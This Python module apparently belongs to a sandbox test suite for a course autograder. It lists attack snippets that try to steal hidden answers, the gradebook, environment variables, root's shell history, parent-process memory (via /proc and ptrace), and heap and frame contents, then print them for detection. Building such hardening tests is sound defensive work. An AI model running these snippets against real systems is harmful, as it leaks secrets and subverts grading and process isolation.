"""Stealing: whatever is read goes into the output, where the tests look for it."""

from __future__ import annotations

from hostile.attack import COURSE, FRAMES, Attack, attack

# Each secret of the course holds such a text; the pattern is written so that it does not match itself.
MARKER = r"marke[r]-[a-z]+-[0-9a-f]{16}"

# What the attacks below begin with. Only what no attack brings along itself is told: a marker, or any answer.
GRAB = f"""
import ctypes, mmap, os, re, socket, sys
MARKER = re.compile(rb"{MARKER}")

def tell(what, found):
    text = found if isinstance(found, (bytes, bytearray, str)) else repr(found)
    data = text.encode("utf-8", "replace") if isinstance(text, str) else bytes(text)
    print(what, sorted(set(MARKER.findall(data)))[:20], data[:200])

def grab(what, how):
    try:
        tell(what, how())
    except Exception as error:
        print(what, type(error).__name__)

def read(path):
    with open(path, "rb") as file:
        return file.read(10_000_000)
"""

PATHS = f"""
COURSE = "{COURSE}"
SECRETS = [
    f"{{COURSE}}/source/01_networks/01_networks.ipynb", f"{{COURSE}}/release/01_networks/01_networks.ipynb",
    f"{{COURSE}}/answer_bank/01_networks/mlp.py", f"{{COURSE}}/gradebook.db",
    f"{{COURSE}}/nbgrader_config.py",
    f"{{COURSE}}/submitted/aa-bystander/01_networks/01_networks.ipynb", f"{{COURSE}}/secret.txt",
    f"{{COURSE}}/autograded/aa-bystander/01_networks/01_networks.ipynb", f"{{COURSE}}/grades.json",
]
"""

STEALING: list[Attack] = [
    attack(
        "steal-files",
        GRAB
        + PATHS
        + """
for path in SECRETS:
    grab(path, lambda: read(path))
    grab(path, lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:])
    grab(path, lambda: read(os.path.relpath(path)))
    grab(path, lambda: read("/proc/self/root" + path))
    grab(path, lambda: read(f"/proc/{os.getppid()}/root" + path))
for folder in (COURSE, f"{COURSE}/submitted", "/", "/tmp", "..", "../..", "/home", "/proc", "/dev/shm"):
    grab(folder, lambda: os.listdir(folder))
grab("shell", lambda: read(os.path.expanduser("~root/.bash_history")))
""",
    ),
    attack(
        "steal-by-links",
        GRAB
        + PATHS
        + """
for number, path in enumerate(SECRETS):
    grab("symlink", lambda: (os.symlink(path, f"s{number}"), read(f"s{number}"))[1])
    grab("link", lambda: (os.link(path, f"h{number}"), read(f"h{number}"))[1])
    grab("rename", lambda: (os.rename(path, f"m{number}"), read(f"m{number}"))[1])
    grab("open path", lambda: read(os.open(path, os.O_PATH)))
    grab("at", lambda: os.open(os.path.basename(path), 0, dir_fd=os.open(os.path.dirname(path), os.O_PATH)))
    grab("sqlite", lambda: __import__("sqlite3").connect(f"file:{path}?immutable=1", uri=True).execute(
        "select * from student").fetchall())
    grab("copy", lambda: (__import__("shutil").copy(path, "c"), read("c"))[1])
    grab("torch", lambda: torch.from_file(path, size=1000, dtype=torch.uint8).numpy().tobytes())
    grab("numpy", lambda: __import__("numpy").memmap(path, mode="r").tobytes())
    grab("exec", lambda: __import__("runpy").run_path(path))
""",
    ),
    attack(
        "steal-bank-by-import",
        GRAB
        + PATHS
        + """
import torchcourse
root = os.path.dirname(os.path.dirname(os.path.dirname(torchcourse.__file__)))
for name in ("source/01_networks.py", "answer_bank/01_networks/mlp.py", "solutions/01_networks.ipynb", "."):
    grab(name, lambda: (read if name != "." else os.listdir)(os.path.join(root, name)) and "[got]")
sys.path[:0] = [COURSE, f"{COURSE}/answer_bank", f"{COURSE}/answer_bank/01_networks", f"{COURSE}/source"]
grab("bank", lambda: __import__("importlib").import_module("answer_bank.01_networks.mlp"))
grab("config", lambda: read(__import__("nbgrader_config").__file__))
grab("reader", lambda: __import__("linecache").getlines(SECRETS[2]))
""",
    ),
    attack(
        "steal-environment",
        GRAB
        + """
grab("environ", lambda: dict(os.environ))
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
for name in (b"HOSTILE_SECRET", b"HOME", b"PATH", b"VIRTUAL_ENV", b"XDG_CACHE_HOME"):
    grab(name, lambda: libc.getenv(name))
for who in ("self", os.getppid(), 1):
    for what in ("environ", "cmdline", "status", "cwd", "maps"):
        grab(f"{who} {what}", lambda: read(f"/proc/{who}/{what}"))
""",
    ),
    attack(
        "steal-memory-of-the-parent",
        GRAB
        + """
parent = os.getppid()
grab("mem", lambda: read(f"/proc/{parent}/mem"))
grab("maps", lambda: read(f"/proc/{parent}/maps"))
grab("fds", lambda: os.listdir(f"/proc/{parent}/fd"))
for number in range(20):
    grab("fd", lambda: read(f"/proc/{parent}/fd/{number}"))
grab("task", lambda: read(f"/proc/{parent}/task/{parent}/mem"))
grab("stack", lambda: read(f"/proc/{parent}/stack"))
grab("vm", lambda: ctypes.CDLL(None).process_vm_readv(parent, None, 0, None, 0, 0))
""",
        flagged="to look into another process",
    ),
    attack(
        "steal-by-ptrace",
        "import ctypes, os\nctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)",
        flagged="to look into another process",
    ),
    attack(
        "steal-leftovers-in-memory",
        GRAB
        + """
libc = ctypes.CDLL(None)
def regions():
    for line in open("/proc/self/maps"):
        span, rights = line.split()[:2]
        if rights.startswith("r") and "[v" not in line:
            start, end = (int(one, 16) for one in span.split("-"))
            yield start, end, rights
OWN = bytearray(b"marker") + b"-own-" + b"fedcba9876543210"  # shows that the search works
for start, end, rights in regions():
    # Through a pipe: where nothing is mapped any more, the kernel says so instead of ending the process.
    way_in, way_out = os.pipe()
    position = start
    while position < end:
        size = libc.write(way_out, ctypes.c_void_p(position), min(65536, end - position))
        if size <= 0:
            break
        data = os.read(way_in, size)
        for one in MARKER.findall(data):
            print("its own is seen" if one == bytes(OWN) else f"[got] {one} at {position:x}")
        position += size
    os.close(way_in); os.close(way_out)
""",
        last=True,
    ),
    attack(
        "steal-from-the-heap",
        GRAB
        + """
import gc
OWN = ["marker" + "-own-" + str(2**53)]
for one in gc.get_objects():
    try:
        if isinstance(one, dict):
            for key in ("wanted", "labels", "expect", "secret_seed", "reference", "solution"):
                if key in one and "check" not in one:  # besides what the visible tests show
                    tell(key, one[key])
        if type(one).__name__ in ("WantedObservation", "Reference", "SourceNotebook", "ReferenceSide"):
            print("[got]", type(one).__name__)
            tell("an instance", vars(one))
        if isinstance(one, (bytes, str, bytearray)):
            tell("text", one) if MARKER.search(one if not isinstance(one, str) else one.encode()) else None
    except Exception:
        pass
""",
        last=True,
    ),
    attack(
        "steal-from-frames",
        GRAB
        + """
def look(*_, **__):
    frame = sys._getframe()
    while frame is not None:
        for name, value in {**frame.f_locals}.items():
            if name in ("job", "order", "cell", "givens", "side"):
                tell(name, value if not hasattr(value, "__dict__") else vars(value))
                cells = value.get("cells", []) if isinstance(value, dict) else []
                for one in cells:
                    # `lambda:` makes an input; one with parameters may look at what the answer gives
                    for key in ("wanted", "lambda:", "expect=", "hint=", "labels="):
                        if key in str(one.get("probe")):
                            print("[got] the job holds", key)
                for key in ("wanted", "secret_seed", "reference"):
                    if isinstance(value, dict) and key in value:
                        print("[got] the job holds", key)
        frame = frame.f_back
    return torch.zeros(7, 3)
linear_forward = init_linear = predict_proba = MLP = look
""",
        linear_forward="def linear_forward(x, weight, bias=None): return look()",
        predict_proba="def predict_proba(model, x): return look()",
    ),
    attack(
        "steal-descriptors",
        GRAB
        + """
import stat
for descriptor in range(0, 2000):
    try:
        status = os.fstat(descriptor)
    except OSError:
        continue
    kind = stat.filemode(status.st_mode)[0]
    print(descriptor, kind)
    if kind in "-":
        grab(descriptor, lambda: os.pread(descriptor, 10_000_000, 0))
    if kind == "d":
        grab(descriptor, lambda: os.listdir(descriptor))
    if kind == "s":
        print("[got] a socket is open")
        grab("recv", lambda: socket.socket(fileno=descriptor).recv(10_000, socket.MSG_DONTWAIT))
    for name in ("exe", "cwd", "root", f"fd/{descriptor}"):
        grab(name, lambda: os.open(f"/proc/self/{name}", os.O_RDWR))
""",
    ),
    attack(
        "steal-the-seed",
        GRAB
        + """
from torchcourse.grading.seeds import derived_seed
import gc
jobs = [o for o in gc.get_objects() if isinstance(o, dict) and "seeds" in o and "cells" in o]
public = jobs[0]["seeds"]["mlp"] if jobs else None
for guess in range(20_000):
    if derived_seed(guess, "mlp/public") == public:
        print("[got] the seed is", guess)
""",
    ),
    attack(
        "steal-later-by-a-hook",
        FRAMES
        + GRAB
        + """
class Spy:
    def find_spec(self, name, path=None, target=None):
        frame = sys._getframe(1)
        while frame:
            for value in frame.f_locals.values():
                if isinstance(value, (str, bytes)):
                    data = value.encode() if isinstance(value, str) else value
                    if MARKER.search(data):
                        print("[got]", MARKER.findall(data))
            frame = frame.f_back
sys.meta_path.insert(0, Spy())
sys.settrace(lambda frame, event, argument: Spy().find_spec("x"))
def hear(event, arguments):
    if MARKER.search(repr(arguments).encode()):
        tell(event, arguments)
sys.addaudithook(hear)
""",
    ),
]
